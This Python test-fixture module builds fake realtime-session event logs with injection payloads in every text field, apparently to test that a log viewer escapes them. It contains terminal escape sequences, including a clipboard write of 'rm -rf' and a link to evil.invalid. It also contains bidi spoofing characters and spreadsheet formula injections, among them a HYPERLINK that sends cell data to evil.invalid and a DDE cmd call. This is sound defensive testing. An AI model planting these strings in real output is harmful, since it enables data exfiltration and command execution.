"""A talk with a service that puts what it likes into every field that holds a text."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Final

from realtime_nb.protocol.events import Event
from realtime_nb.protocol.log.event_log import EventLog

Json = dict[str, Any]

PAYLOADS: Final = tuple(
    (Path(__file__).parent / "payloads.txt").read_text(encoding="utf-8").splitlines()
)
"""Markup, links and styles that run, load or leave when a page takes them for its own."""

PLANTED: Final = ("sk-planted-in-a-keyring-0123456789", "planted-in-a-header-of-a-file")
"""The key of an endpoint, and its header: what a service knows of, and may repeat."""

STEERING: Final = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b[2J\x1b[H",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "\x1bP+q544e\x1b\\",
    "safe\rover",
    "back\b\b\b\bover",
    "bell\x07",
    "null\x00end",
    "del\x7f",
    "turned \u202egnp.exe",
    "isolated \u2066text\u2067",
    "marks \u200e\u200f\u061c",
    "line\u2028and\u2029paragraph",
    "form\x0cfeed\x0b",
    "next\x85line",
    "half \ud83d of a sign",
)
"""What steers a terminal, or turns the line that it stands in."""

FORMULAS: Final = (
    "=1+1",
    '=HYPERLINK("https://evil.invalid/?"&A1,"press")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    '"=1+1',
    "a\n=1+1",
)
"""What a spreadsheet computes when it stands in a cell."""

# The section sign stands for the payload: in every text that is not the protocol's own word.
_SESSION: Final[Json] = {
    "type": "realtime", "id": "§", "object": "§", "model": "§", "instructions": "§",
    "output_modalities": ["text", "§"], "tool_choice": "§", "tracing": "§",
    "audio": {
        "input": {
            "format": {"type": "§", "rate": 24000},
            "transcription": {"model": "§", "language": "§", "prompt": "§"},
            "turn_detection": {"type": "§", "eagerness": "§"},
            "noise_reduction": {"type": "§"},
        },
        "output": {"voice": "§", "format": {"type": "audio/pcm", "rate": 24000}},
    },
    "tools": [
        {"type": "function", "name": "§", "description": "§", "parameters": {"title": "§"}},
        {"type": "mcp", "server_label": "§", "server_url": "§", "allowed_tools": ["§"]},
        {"type": "§", "name": "§"},
    ],
    "prompt": {"id": "§", "version": "§", "variables": {"§": "§"}},
    "include": ["§"],
    "§": "§",
}  # fmt: skip
_USER: Final[Json] = {
    "id": "§u", "type": "message", "role": "user", "status": "completed", "object": "§",
    "content": [
        {"type": "input_text", "text": "§"},
        {"type": "input_audio", "transcript": "§"},
        {"type": "input_image", "image_url": "§", "detail": "§"},
        {"type": "§", "text": "§"},
    ],
}  # fmt: skip
_ITEMS: Final[tuple[Json, ...]] = (
    _USER,
    {"id": "§s", "type": "message", "role": "system",
     "content": [{"type": "input_text", "text": "§"}]},
    {"id": "§a", "type": "message", "role": "assistant", "status": "completed",
     "content": [{"type": "output_text", "text": "§"},
                 {"type": "output_audio", "transcript": "§"}]},
    {"id": "§c", "type": "function_call", "name": "§", "call_id": "§k", "arguments": "§",
     "status": "completed"},
    {"id": "§d", "type": "function_call", "name": "§", "call_id": "§l", "arguments": '{"§": "§"}'},
    {"id": "§o", "type": "function_call_output", "call_id": "§k", "output": "§"},
    {"id": "§m", "type": "mcp_call", "server_label": "§", "name": "§", "arguments": "§",
     "output": "§", "error": {"type": "§", "message": "§", "code": "§"},
     "approval_request_id": "§"},
    {"id": "§p", "type": "mcp_approval_request", "server_label": "§", "name": "§",
     "arguments": "§"},
    {"id": "§q", "type": "mcp_list_tools", "server_label": "§",
     "tools": [{"name": "§", "description": "§", "input_schema": {"title": "§"}}]},
    {"id": "§x", "type": "§", "role": "§", "status": "§", "name": "§", "content": "§"},
)  # fmt: skip
_ANSWER: Final[Json] = {
    "id": "§r", "object": "§", "status": "completed", "conversation_id": "§",
    "output": list(_ITEMS[2:4]), "metadata": {"§": "§"},
    "audio": {"output": {"voice": "§"}},
    "usage": {"total_tokens": 3, "input_tokens": 2, "output_tokens": 1, "§": "§"},
}  # fmt: skip
_FAILED: Final[Json] = {
    **_ANSWER, "id": "§f", "status": "failed", "output": [],
    "status_details": {"type": "failed", "reason": "§",
                       "error": {"type": "§", "code": "§", "message": "§"}},
}  # fmt: skip
_PLACE: Final[Json] = {"item_id": "§a", "response_id": "§r", "output_index": 0, "content_index": 0}
_ERROR: Final[Json] = {"type": "§", "code": "§", "message": "§", "param": "§", "event_id": "§"}
_HEARING: Final = "conversation.item.input_audio_transcription"

_AFTERWARDS: Final[tuple[Json, ...]] = (
    {"type": f"{_HEARING}.delta", "item_id": "§u", "content_index": 1, "delta": "§"},
    {"type": f"{_HEARING}.completed", "item_id": "§u", "content_index": 1, "transcript": "§",
     "logprobs": [{"token": "§", "logprob": -0.1}], "usage": {"type": "§", "seconds": 1}},
    {"type": f"{_HEARING}.segment", "item_id": "§u", "content_index": 1, "id": "§", "text": "§",
     "speaker": "§", "start": 0, "end": 1},
    {"type": f"{_HEARING}.failed", "item_id": "§u", "content_index": 1, "error": _ERROR},
    {"type": "response.created", "response": {**_ANSWER, "status": "in_progress", "output": []}},
    {"type": "response.output_item.added", "response_id": "§r", "output_index": 0,
     "item": _ITEMS[2]},
    {"type": "response.content_part.added", **_PLACE, "part": {"type": "§", "text": "§"}},
    {"type": "response.output_text.delta", **_PLACE, "delta": "§"},
    {"type": "response.output_text.done", **_PLACE, "text": "§"},
    {"type": "response.output_audio_transcript.delta", **_PLACE, "delta": "§"},
    {"type": "response.output_audio_transcript.done", **_PLACE, "transcript": "§"},
    {"type": "response.function_call_arguments.delta", "item_id": "§c", "response_id": "§r",
     "call_id": "§k", "delta": "§"},
    {"type": "response.function_call_arguments.done", "item_id": "§c", "response_id": "§r",
     "call_id": "§k", "name": "§", "arguments": "§"},
    {"type": "response.mcp_call.failed", "item_id": "§m", "output_index": 0},
    {"type": "mcp_list_tools.failed", "item_id": "§q"},
    {"type": "response.done", "response": _ANSWER},
    {"type": "response.created", "response": {**_FAILED, "status": "in_progress"}},
    {"type": "response.done", "response": _FAILED},
    {"type": "conversation.item.truncated", "item_id": "§a", "content_index": 0,
     "audio_end_ms": 10},
    {"type": "input_audio_buffer.dtmf_event_received", "event": "§", "received_at": 1},
    {"type": "rate_limits.updated",
     "rate_limits": [{"name": "§", "limit": 9, "remaining": 0, "reset_seconds": 1}]},
    {"type": "error", "error": {**_ERROR, "event_id": None}},
    {"type": "§", "text": "§", "§": {"§": ["§"]}},
)  # fmt: skip


def joined(count: int) -> tuple[str, ...]:
    """Return the payloads, so many in one text, so that a page has fewer to draw."""
    return tuple(" ".join(PAYLOADS[at : at + count]) for at in range(0, len(PAYLOADS), count))


def put(template: Any, payload: str, mark: str = "") -> Any:
    """Return a template with a payload in its places, ids among them told apart by `mark`."""
    if isinstance(template, str):
        alone = len(template) == 2 and template[0] == "§"
        return template.replace("§", payload) + (mark if alone else "")
    if isinstance(template, list):
        return [put(one, payload, mark) for one in template]
    if isinstance(template, dict):
        return {put(name, payload): put(value, payload, mark) for name, value in template.items()}
    return template


def session(payload: str) -> Json:
    """Return a session whose every text is the payload."""
    return put(_SESSION, payload)


def round_of(payload: str, mark: str) -> list[Json]:
    """Return the server's events of one round of talk, each with the payload wherever it can be.

    Parameters
    ----------
    payload
        The text.
    mark
        Tells the ids of this round from those of others.
    """
    added = [
        {"type": kind, "previous_item_id": None, "item": item}
        for item in _ITEMS
        for kind in ("conversation.item.added", "conversation.item.done")
    ]
    return [put(event, payload, mark) for event in (*added, *_AFTERWARDS)]


def log_of(payloads: tuple[str, ...], *, created: str | None = None) -> EventLog:
    """Return the log of such a talk, both ways."""
    log = EventLog()
    told = session(created if created is not None else payloads[0])
    log.append("received", Event({"type": "session.created", "session": told}), t_ms=0, size=9)
    t_ms = 0.0
    for number, payload in enumerate(payloads):
        sent = put({"type": "session.update", "session": _SESSION, "event_id": "§"}, payload)
        spoken = {"type": "conversation.item.create", "item": put(_USER, payload, f"!{number}")}
        for direction, data in [
            ("sent", sent),
            ("received", {"type": "session.updated", "session": session(payload)}),
            ("sent", spoken),
            *(("received", event) for event in round_of(payload, str(number))),
        ]:
            t_ms += 10
            log.append(direction, Event(data), t_ms=t_ms, size=len(json.dumps(data)))
    return log
